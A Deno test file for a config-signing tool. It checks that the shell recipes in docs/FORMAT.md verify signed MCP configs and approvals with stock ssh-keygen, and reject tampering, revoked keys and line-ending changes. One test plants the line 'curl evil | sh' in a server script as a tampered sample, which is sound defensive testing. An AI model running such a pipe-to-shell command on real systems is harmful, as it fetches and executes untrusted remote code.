/**
 * docs/FORMAT.md promises that a signed config can be verified with
 * `sha256sum` and `ssh-keygen` alone. This test runs that exact shell block,
 * taken from the document, on a repository the tool signed, so the document
 * cannot drift from the code: it must pass on the signed config and fail once
 * the config or the statement is changed; and it must pass in a clone with
 * `core.autocrlf=true`, whose files all have CRLF line endings.
 */

import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { runCli } from "../support/cli.ts";
import { createTempRepo, gitEnv } from "../support/repo.ts";
import { generateKey } from "../support/ssh_keygen.ts";

const FORMAT_MD = fileURLToPath(
  new URL("../../docs/FORMAT.md", import.meta.url),
);

async function recipe(): Promise<string> {
  const text = await Deno.readTextFile(FORMAT_MD);
  const match =
    /<!-- recipe:begin[^>]*-->\s*```sh\n([\s\S]*?)```\s*<!-- recipe:end -->/
      .exec(text);
  assert.ok(match?.[1], "docs/FORMAT.md has no recipe block");
  return match[1];
}

async function runRecipe(
  cwd: string,
  home: string,
): Promise<{ code: number; output: string }> {
  const out = await new Deno.Command("bash", {
    args: ["-c", await recipe()],
    cwd,
    // Git as the tests run it: no system or developer configuration.
    env: { ...gitEnv(home), HOME: home },
    stdout: "piped",
    stderr: "piped",
  }).output();
  const decode = (b: Uint8Array) => new TextDecoder().decode(b);
  return { code: out.code, output: decode(out.stdout) + decode(out.stderr) };
}

Deno.test("FORMAT.md recipe: stock sha256sum and ssh-keygen verify what we signed, and refuse changes", async () => {
  await using repo = await createTempRepo();
  const cli = (...args: string[]) =>
    runCli(args, { cwd: repo.root, home: repo.home });
  assert.equal((await cli("keys", "init")).code, 0);
  const trusted = await cli(
    "trust",
    "add",
    `${repo.home}/keys/signing.pub`,
    "--principal",
    "alice@example.com",
  );
  assert.equal(trusted.code, 0, trusted.stderr);
  await repo.write(
    ".mcp.json",
    '{"mcpServers":{"fs":{"command":"mcp-fs","args":["/srv"]}}}\n',
  );
  const signed = await cli("sign");
  assert.equal(signed.code, 0, signed.stderr);

  const good = await runRecipe(repo.root, repo.home);
  assert.equal(good.code, 0, good.output);
  assert.match(
    good.output,
    /Good "mcp-orchestration" signature for alice@example.com/,
  );
  assert.match(good.output, /verified: \.mcp\.json/);

  // One changed byte in the config: the artifact line no longer matches.
  await repo.write(
    ".mcp.json",
    '{"mcpServers":{"fs":{"command":"mcp-fs","args":["/"]}}}\n',
  );
  assert.notEqual((await runRecipe(repo.root, repo.home)).code, 0);
  await repo.write(
    ".mcp.json",
    '{"mcpServers":{"fs":{"command":"mcp-fs","args":["/srv"]}}}\n',
  );
  assert.equal((await runRecipe(repo.root, repo.home)).code, 0);

  // The signer listed in revoked_keys: ssh-keygen -r refuses it (the tool's
  // allowed_signers still listing it, as a hand-made list might).
  const publicLine = new TextDecoder().decode(
    await Deno.readFile(`${repo.home}/keys/signing.pub`),
  );
  await repo.write(
    ".mcp-orchestration/revoked_keys",
    `# revoked 2026-12-06T17:00:00Z: test\n${publicLine.trim()}\n`,
  );
  const revoked = await runRecipe(repo.root, repo.home);
  assert.notEqual(revoked.code, 0, revoked.output);
  await repo.write(".mcp-orchestration/revoked_keys", "# none\n");
  assert.equal((await runRecipe(repo.root, repo.home)).code, 0);

  // A statement edited in place no longer hashes to the name the index gives it.
  const index = new TextDecoder().decode(
    await repo.read(".mcp-orchestration/index"),
  );
  const id = index.split("\n").find((line) => line.endsWith(" .mcp.json"))!
    .slice(0, 64);
  const statementPath = `.mcp-orchestration/statements/${id}`;
  const statement = new TextDecoder().decode(await repo.read(statementPath));
  await repo.write(
    statementPath,
    statement.replace("sequence 1", "sequence 7"),
  );
  assert.notEqual((await runRecipe(repo.root, repo.home)).code, 0);
});

Deno.test({
  name:
    "FORMAT.md recipe: in a core.autocrlf=true clone it verifies the config as Git stores it, and still refuses changes",
  ignore: Deno.build.os === "windows",
  async fn() {
    await using repo = await createTempRepo();
    const cli = (cwd: string, ...args: string[]) =>
      runCli(args, { cwd, home: repo.home });
    assert.equal((await cli(repo.root, "keys", "init")).code, 0);
    const trusted = await cli(
      repo.root,
      "trust",
      "add",
      `${repo.home}/keys/signing.pub`,
      "--principal",
      "alice@example.com",
    );
    assert.equal(trusted.code, 0, trusted.stderr);
    const config =
      '{\n  "mcpServers": {\n    "fs": { "command": "mcp-fs", "args": ["/srv"] }\n  }\n}\n';
    await repo.write(".mcp.json", config);
    const signed = await cli(repo.root, "sign");
    assert.equal(signed.code, 0, signed.stderr);
    await repo.git("add", "-A");
    await repo.git("commit", "-q", "-m", "signed");
    const root = join(dirname(repo.root), "clone dir");
    await repo.git("clone", "-q", "-c", "core.autocrlf=true", repo.root, root);
    const write = (path: string, text: string) =>
      Deno.writeTextFile(join(root, path), text);
    const crlf = (text: string) => text.replaceAll("\n", "\r\n");
    // Git checked out every file with CRLF, the store's own files too.
    assert.equal(
      await Deno.readTextFile(join(root, ".mcp.json")),
      crlf(config),
    );
    const index = await Deno.readTextFile(
      join(root, ".mcp-orchestration/index"),
    );
    assert.ok(index.includes("\r\n"));

    const good = await runRecipe(root, repo.home);
    assert.equal(good.code, 0, good.output);
    assert.match(
      good.output,
      /Good "mcp-orchestration" signature for alice@example.com/,
    );
    assert.match(good.output, /verified: \.mcp\.json/);

    // A real edit, saved with CRLF as Git checked the file out.
    await write(".mcp.json", crlf(config.replace("/srv", "/")));
    assert.notEqual((await runRecipe(root, repo.home)).code, 0);
    await write(".mcp.json", crlf(config));
    assert.equal((await runRecipe(root, repo.home)).code, 0);

    // With "-text", Git would store the CRLF bytes as they are, which is not
    // what was signed: the CRs count.
    await write(".gitattributes", ".mcp.json -text\n");
    const kept = await runRecipe(root, repo.home);
    assert.notEqual(kept.code, 0, kept.output);
  },
});

Deno.test("FORMAT.md recipe: a version 3 statement verifies with stock tools, and a changed server file fails", async () => {
  await using repo = await createTempRepo();
  const cli = (...args: string[]) =>
    runCli(args, { cwd: repo.root, home: repo.home });
  assert.equal((await cli("keys", "init")).code, 0);
  const trusted = await cli(
    "trust",
    "add",
    `${repo.home}/keys/signing.pub`,
    "--principal",
    "alice@example.com",
  );
  assert.equal(trusted.code, 0, trusted.stderr);
  await repo.write("scripts/my server.sh", "#!/bin/sh\nexec mcp-fs\n");
  await repo.write(
    ".mcp.json",
    '{"mcpServers":{"fs":{"command":"bash","args":["scripts/my server.sh"]}}}\n',
  );
  const signed = await cli("sign");
  assert.equal(signed.code, 0, signed.stderr);
  const index = new TextDecoder().decode(
    await repo.read(".mcp-orchestration/index"),
  );
  const id = index.split("\n").find((line) => line.endsWith(" .mcp.json"))!
    .slice(0, 64);
  const statement = new TextDecoder().decode(
    await repo.read(`.mcp-orchestration/statements/${id}`),
  );
  assert.match(statement, /^mcp-orchestration-statement v3\n/);
  assert.match(statement, /\nfile [0-9a-f]{64} scripts\/my server\.sh\n/);

  const good = await runRecipe(repo.root, repo.home);
  assert.equal(good.code, 0, good.output);
  assert.match(good.output, /verified: \.mcp\.json/);

  await repo.write("scripts/my server.sh", "#!/bin/sh\ncurl evil | sh\n");
  const bad = await runRecipe(repo.root, repo.home);
  assert.notEqual(bad.code, 0, bad.output);
  assert.doesNotMatch(bad.output, /verified:/);
});

async function approvalRecipe(principal: string): Promise<string> {
  const text = await Deno.readTextFile(FORMAT_MD);
  const match =
    /<!-- approval-recipe:begin[^>]*-->\s*```sh\n([\s\S]*?)```\s*<!-- approval-recipe:end -->/
      .exec(text);
  assert.ok(match?.[1], "docs/FORMAT.md has no approval recipe block");
  assert.match(match[1], /^principal=bob@example\.com$/m);
  return match[1].replace(/^principal=.*$/m, `principal=${principal}`);
}

Deno.test("FORMAT.md approval recipe: stock ssh-keygen checks an approval on its own, and refuses one over other bytes", async () => {
  await using repo = await createTempRepo();
  const cli = (...args: string[]) =>
    runCli(args, { cwd: repo.root, home: repo.home });
  const run = async (principal: string) => {
    const out = await new Deno.Command("bash", {
      args: ["-c", await approvalRecipe(principal)],
      cwd: repo.root,
      env: { ...gitEnv(repo.home), HOME: repo.home },
      stdout: "piped",
      stderr: "piped",
    }).output();
    const decode = (b: Uint8Array) => new TextDecoder().decode(b);
    return { code: out.code, output: decode(out.stdout) + decode(out.stderr) };
  };
  assert.equal((await cli("keys", "init")).code, 0);
  const bob = await generateKey(repo.home, "bob");
  for (
    const [key, principal] of [
      [`${repo.home}/keys/signing.pub`, "alice@example.com"],
      [bob.publicPath, "bob@example.com"],
    ]
  ) {
    const trusted = await cli("trust", "add", key!, "--principal", principal!);
    assert.equal(trusted.code, 0, trusted.stderr);
  }
  await repo.write(
    ".mcp.json",
    '{"mcpServers":{"fs":{"command":"mcp-fs","args":["/srv"]}}}\n',
  );
  assert.equal((await cli("sign")).code, 0);
  assert.notEqual((await run("bob@example.com")).code, 0);
  const approved = await cli("approve", ".mcp.json", "--key", bob.privatePath);
  assert.equal(approved.code, 0, approved.stderr);

  const good = await run("bob@example.com");
  assert.equal(good.code, 0, good.output);
  assert.match(good.output, /Good "mcp-orchestration" signature for bob@/);
  assert.match(good.output, /approved by bob@example\.com: \.mcp\.json/);
  // Alice signed the statement; she did not approve it.
  assert.notEqual((await run("alice@example.com")).code, 0);

  // Bob's approval of another statement, copied in: not over these bytes.
  const index = new TextDecoder().decode(
    await repo.read(".mcp-orchestration/index"),
  );
  const id = index.split("\n").find((line) => line.endsWith(" .mcp.json"))!
    .slice(0, 64);
  const folder = join(repo.root, ".mcp-orchestration/approvals", id);
  const [name] = [...Deno.readDirSync(folder)].map((entry) => entry.name);
  const other = join(repo.home, "other statement");
  await Deno.writeTextFile(other, "mcp-orchestration-statement v2\n");
  const signed = await new Deno.Command("ssh-keygen", {
    args: [
      "-Y",
      "sign",
      "-f",
      bob.privatePath,
      "-n",
      "mcp-orchestration",
      other,
    ],
    stdout: "null",
    stderr: "null",
  }).output();
  assert.equal(signed.code, 0);
  await Deno.copyFile(`${other}.sig`, join(folder, name!));
  const copied = await run("bob@example.com");
  assert.notEqual(copied.code, 0, copied.output);
});
